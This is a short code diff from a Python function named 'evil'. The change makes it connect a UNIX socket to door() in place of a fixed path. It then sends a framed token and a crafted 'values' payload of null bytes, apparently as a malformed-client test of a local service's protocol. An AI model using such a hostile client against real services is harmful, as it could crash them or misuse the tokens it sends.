@@ -16,7 +16,7 @@ def evil(*args):
             one = socket.socket(socket.AF_UNIX)
             one.setblocking(False)
             try:
-                one.connect(SOCKET)
+                one.connect(door())
                 one.send(frame(items(text(kind), text(token))) + frame(items(text("values"), items(b"d" + b"\0" * 8))))
             except OSError:
                 pass
